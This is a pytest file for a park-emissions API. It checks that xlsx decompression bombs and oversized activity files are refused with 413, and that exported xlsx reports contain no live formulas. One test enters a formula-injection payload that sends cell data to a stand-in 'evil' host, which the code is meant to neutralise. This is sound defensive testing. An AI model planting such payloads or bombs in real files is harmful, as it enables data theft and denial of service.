"""Files users give the API (issue #9, findings 2 and 5): an Excel bomb is refused with 413 for
any role that may upload, naming the file and the limit; an activities file is bounded in rows;
the inventory report downloaded as xlsx holds no formula."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.api.conftest import auth
from tests.api.parkdata import PARK, World
from tests.ingest import xlsx_bombs
from zeropark.api import create_app
from zeropark.config import load_settings
from zeropark.service import activities_io


@pytest.fixture(scope="module")
def client(world: World) -> Iterator[TestClient]:
    """The API with a 4 MiB upload limit: the bombs are well under it."""
    settings = load_settings(db_url=world.db.url, lang="en", write_burst=100_000)
    with TestClient(create_app(settings, world.db, max_upload_bytes=4 << 20)) as c:
        yield c


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    return xlsx_bombs.shared_strings_bomb(path, expanded_mib=100).read_bytes()


@pytest.mark.parametrize(
    ("role", "kind"),
    [
        ("park_admin", "readings"),
        ("gateway", "readings"),
        ("park_admin", "activities"),
        ("tenant_own", "activities"),
    ],
)
def test_an_excel_bomb_is_refused_with_413_naming_the_file_and_the_limit(
    client: TestClient, tokens: dict, bomb: bytes, role: str, kind: str
) -> None:
    response = client.post(
        f"/api/v1/parks/{PARK}/{kind}/upload",
        files={"file": ("bomb.xlsx", io.BytesIO(bomb))},
        headers=auth(tokens[role]),
    )
    assert response.status_code == 413, response.text
    problem = response.json()
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "bomb.xlsx" in problem["detail"]
    assert "limit of 64 MiB" in problem["detail"]


def test_an_activities_file_over_the_row_limit_is_refused_whole(
    client: TestClient, tokens: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(activities_io, "MAX_ACTIVITY_ROWS", 50)
    rows = "".join(
        f"t_chem,2024-{1 + i % 12:02d},fuel_combustion,diesel,{i},t\n" for i in range(51)
    )
    body = ("entity,period,category,item,quantity,unit\n" + rows).encode()
    response = client.post(
        f"/api/v1/parks/{PARK}/activities/upload",
        files={"file": ("acts.csv", io.BytesIO(body))},
        headers=auth(tokens["park_admin"]),
    )
    assert response.status_code == 413, response.text
    assert "more than 50 activity rows in one file" in response.json()["detail"]
    listed = client.get(
        f"/api/v1/parks/{PARK}/activities", headers=auth(tokens["park_admin"])
    ).json()
    assert all(item["quantity"] not in (13.0, 49.0) for item in listed["items"])  # none stored


def test_the_inventory_report_download_holds_no_formula(
    client: TestClient, tokens: dict, tmp_path: Path
) -> None:
    leak = '=HYPERLINK("http://evil/?x="&B2,"x")'
    entered = client.post(
        f"/api/v1/parks/{PARK}/activities",
        json=[{"entity": "t_chem", "period": "2024-02", "category": "waste", "item": leak,
               "quantity": 2.0, "unit": "t"}],
        headers=auth(tokens["tenant_own"]),
    )  # fmt: skip
    assert entered.status_code == 200, entered.text
    assert entered.json()["accepted"] == 1, entered.text
    response = client.get(
        f"/api/v1/parks/{PARK}/reports/inventory",
        params={"year": 2024, "format": "xlsx"},
        headers=auth(tokens["park_admin"]),
    )
    assert response.status_code == 200, response.text
    path = tmp_path / "report.xlsx"
    path.write_bytes(response.content)
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    holding = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert holding, "the tenant's item is not in the park's report"
    assert not any(v.startswith(("=", "+", "-", "@")) for v in holding), holding
